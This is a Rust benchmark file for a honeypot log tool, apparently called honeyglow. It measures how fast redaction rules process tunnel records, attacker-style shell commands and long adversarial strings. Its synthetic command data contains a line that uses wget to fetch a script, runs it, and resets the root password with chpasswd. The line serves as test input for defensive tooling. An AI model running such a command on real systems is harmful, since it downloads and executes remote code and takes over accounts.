//! How fast links are redacted, in links: `redact/tunnels` has short names, `redact/commands` long
//! ones that are looked through for passwords and URLs, `redact/hostile` the longest that are kept
//! whole, made of what takes longest. One thread.

mod made_log;

use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use honeyglow::event::{Column, Event, Kind, Origin};
use honeyglow::link::{Fold, Links, View};
use honeyglow::redact::{Rules, Sources, Wishes};
use honeyglow::time::Period;

fn folded(view: &View, kind: Kind, rows: &[[String; 3]]) -> Links {
    let mut fold = Fold::new(view.clone(), Period::default());
    for ([source, middle, target], offset) in rows.iter().zip(0..) {
        let mut event = Event::new(kind, None);
        event.set(view.source, source.as_str());
        event.set(view.event.unwrap_or(Column::Event), middle.as_str());
        event.set(view.target, target.as_str());
        fold.add(&event, Origin::new(0, offset));
    }
    fold.finish()
}

fn redact(criterion: &mut Criterion) {
    let tunnels = made_log::tunnels(20_000);
    let commands: Vec<[String; 3]> = tunnels
        .iter()
        .zip(0..)
        .map(|([source, _, host], number)| {
            let command = format!(
                "cd /tmp; wget http://{host}/x{number}.sh; echo \"root:{number}\"|chpasswd; sh x.sh"
            );
            [source.clone(), format!("{number:012x}"), command]
        })
        .collect();
    let pieces = ["1:", "::1", "0x1.", "1.2.3.4 ", "%2e", "echo '", "passwd;", "http://", "a@b:c/"];
    let hostile: Vec<[String; 3]> = pieces
        .iter()
        .map(|piece| ["192.0.2.1".to_owned(), "s".to_owned(), piece.repeat(65_536 / piece.len())])
        .collect();
    let mut group = criterion.benchmark_group("redact");
    for (name, view, kind, rows) in [
        ("tunnels", View::tunnels(), Kind::TunnelRequest, &tunnels),
        ("commands", View::commands(), Kind::Command, &commands),
        ("hostile", View::commands(), Kind::Command, &hostile),
    ] {
        let links = folded(&view, kind, rows);
        group.throughput(Throughput::Elements(links.links.len() as u64));
        for sources in [Sources::Shown, Sources::Pseudonyms] {
            let rules = Rules::new(Wishes {
                addresses: vec![std::net::Ipv4Addr::new(203, 0, 113, 7).into()],
                words: vec!["hoster.example".to_owned()],
                sources,
                ..Wishes::with_key([7; 32])
            });
            group.bench_function(format!("{name}/{sources:?}"), |bencher| {
                bencher.iter_batched(
                    || links.clone(),
                    |links| rules.links(links),
                    BatchSize::LargeInput,
                );
            });
        }
    }
    group.finish();
}

criterion_group!(benches, redact);
criterion_main!(benches);
